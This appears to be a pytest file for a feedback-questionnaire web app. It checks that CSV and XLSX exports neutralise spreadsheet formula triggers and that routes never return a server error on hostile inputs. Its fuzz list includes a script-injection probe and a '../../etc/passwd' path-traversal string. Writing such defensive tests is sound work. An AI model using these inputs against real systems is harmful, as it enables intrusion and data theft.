TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.fixture(scope="module")
def exports(pages):
    """Every export, CSV and XLSX, of every round and questionnaire, through the admin
    download and the command: a list of (name, rows of cells, XLSX cells or None, why the
    XLSX file does not open or None)."""
    hostile = pages
    found = []
    queries = [f"round={rid}" for rid in hostile.rounds.values()]
    queries += [f"questionnaire={slug}" for slug in ("children", "practitioners", "multi-agency-audit", "hostile")]
    for query in queries:
        for fmt in ("csv", "xlsx"):
            response, error = call(hostile.client.get, f"/admin/export?{query}&format={fmt}")
            assert error is None, error
            assert response.status_code == 200, (query, fmt)
            found.append((f"download {query} {fmt}", *_cells(response.data, fmt)))
    runner = hostile.app.test_cli_runner()
    for slug in ("children", "hostile"):
        for fmt in ("csv", "xlsx"):
            target = hostile.folder / f"export-{slug}.{fmt}"
            result = runner.invoke(args=["responses", "export", "--questionnaire", slug, "--output", str(target)])
            assert result.exit_code == 0, result.output
            found.append((f"command {slug} {fmt}", *_cells(target.read_bytes(), fmt)))
    return found


NOT_XML = re.compile("[\ufffe\uffff]")


def _cells(data: bytes, fmt: str):
    if fmt == "csv":
        return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))), None, None
    broken = None
    try:
        workbook = load_workbook(io.BytesIO(data))
    except Exception as error:  # noqa: BLE001 - a file that does not open is the finding
        # Read it anyway, with the characters XML cannot hold taken out, to check its cells.
        broken = f"{type(error).__name__}: {error}"
        workbook = load_workbook(io.BytesIO(_without_non_xml(data)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    return [[str(cell.value) for cell in cells]], cells, broken


def _without_non_xml(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename.endswith(".xml"):
                content = NOT_XML.sub("", content.decode("utf-8")).encode("utf-8")
            target.writestr(item, content)
    return out.getvalue()


def test_no_exported_cell_can_run_as_a_formula(exports):
    live = []
    for name, rows, xlsx_cells, _broken in exports:
        live += [(name, cell[:40]) for row in rows for cell in row if cell.startswith(TRIGGERS)]
        live += [(name, cell.coordinate, "formula") for cell in xlsx_cells or [] if cell.data_type == "f"]
    assert not live, live


def test_the_exports_hold_the_stored_payloads(exports, pages):
    cells = {cell for _name, rows, _x, _broken in exports for row in rows for cell in row}
    for index, payload in enumerate(FORMULAS):
        index = PAYLOADS.index(payload)
        if pages.web[index, "children-text"].status == 302:
            text = clean_text(payload).strip().replace("\r\n", "\n")
            assert any(cell.replace("\r\n", "\n") in (f"'{text}", text) for cell in cells), payload_id(payload)




def test_every_xlsx_export_opens(exports):
    assert "non-characters \ufffe\uffff" in PAYLOADS
    broken = {name: why for name, _rows, _cells, why in exports if why}
    assert not broken, broken


@pytest.mark.parametrize("character", ["\ufffe", "\uffff"], ids=["U+FFFE", "U+FFFF"])
def test_write_xlsx_drops_what_xml_cannot_hold(character):
    frame = pd.DataFrame([[f"=1+1{character}"]], columns=["what_helped"])
    sheet = load_workbook(io.BytesIO(write_xlsx(frame))).active
    assert sheet["A2"].value == "'=1+1"


# ---------------------------------------------------------------- every route's parameters, from the URL map

ROOT_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
HOSTILE_PARAMETERS = [
    "99999999999999999999", "2147483648", "9223372036854775808", "-1", "0", "1e3", "0x10", "\u0663",
    " 1", "1,2", "abc", "%00", "x" * 300, "<script>alert(1)</script>", "../../etc/passwd", "\U0001f642",
]


def query_names() -> list[str]:
    """Every query argument a view reads (``request.args.get("x")``, ``request.args["x"]``), found in
    the source, plus the fields of the forms built from ``request.args``."""
    names: set[str] = {"round_from", "round_to", "agency"}
    for folder, _dirs, files in os.walk(os.path.join(ROOT_DIR, "feedback_app")):
        for name in files:
            if name.endswith(".py"):
                with open(os.path.join(folder, name), encoding="utf-8") as handle:
                    names |= set(re.findall(r"request\.args(?:\.get\(|\[)\"([a-z_]+)\"", handle.read()))
    return sorted(names)


@pytest.fixture
def mapped(app, client, login, make_round, make_link, respondent):
    """An admin client, and a real value for every kind of route argument."""
    round_ = make_round("children", 2)
    link = make_link(round_)
    respondent.answer(link.token, {"what_helped": "my social worker" + CONCERN})
    user = login("admin")
    with app.app_context():
        flag_id = db.session.scalar(select(SafeguardingFlag.id))
        version_id = db.session.get(Round, round_.id).version_id
        answer_id, response_id = db.session.execute(select(Answer.id, Answer.response_id)).first()
    values = {"round_id": round_.id, "link_id": link.id, "version_id": version_id, "flag_id": flag_id,
              "user_id": user.id, "slug": "children", "question_key": "what_helped", "theme": "practical_needs",
              "token": link.token, "burst_id": 1, "answer_id": answer_id, "response_id": response_id,
              "action_id": 1, "token_id": 1, "version": 2, "code": "ABCD-EFGH-JKLM-NPQR",
              "_rest": "questionnaires"}
    return client, values


def _arguments(rule, values) -> dict:
    found = {}
    for name in rule.arguments:
        items = getattr(rule._converters.get(name), "items", None)
        found[name] = sorted(items)[0] if items else values[name]
    return found


def _routes(app):
    return [rule for rule in app.url_map.iter_rules() if rule.endpoint != "static"]


def test_the_url_map_suite_covers_every_route_and_argument(app):
    rules = _routes(app)
    assert len(rules) >= 30
    arguments = {name for rule in rules for name in rule.arguments}
    assert {"round_id", "link_id", "user_id", "flag_id", "version_id", "token", "slug"} <= arguments
    assert {"page", "round", "round_from", "round_to", "agency", "action", "actor"} <= set(query_names())


def test_hostile_values_in_every_route_argument_are_never_a_500(app, mapped):
    client, values = mapped
    failures = []
    for rule in _routes(app):
        method = "GET" if "GET" in rule.methods else "POST"
        for name in rule.arguments:
            if getattr(rule._converters.get(name), "items", None):
                continue  # a fixed choice (any(...)): anything else is not this route
            sentinel = 987654321 if "int" in type(rule._converters[name]).__name__.lower() else "sentinelvalue"
            template = rule.build(dict(_arguments(rule, values), **{name: sentinel}), append_unknown=False)[1]
            for value in HOSTILE_PARAMETERS:
                url = template.replace(str(sentinel), quote_from_bytes(value.encode(), safe=""), 1)
                response, error = call(client.open, url, method=method)
                if error or response.status_code >= 500:
                    failures.append((method, rule.rule, name, value[:30], error or response.status_code))
    assert not failures, failures[:10]


def test_hostile_values_in_every_query_argument_are_never_a_500(app, mapped):
    client, values = mapped
    names = query_names()
    failures = []
    for rule in _routes(app):
        if "GET" not in rule.methods:
            continue
        url = rule.build(_arguments(rule, values), append_unknown=False)[1]
        for value in HOSTILE_PARAMETERS:
            query = "&".join(f"{name}={quote_from_bytes(value.encode(), safe='')}" for name in names)
            response, error = call(client.get, f"{url}?{query}")
            if error or response.status_code >= 500:
                failures.append((rule.rule, value[:30], error or response.status_code))
    assert not failures, failures[:10]
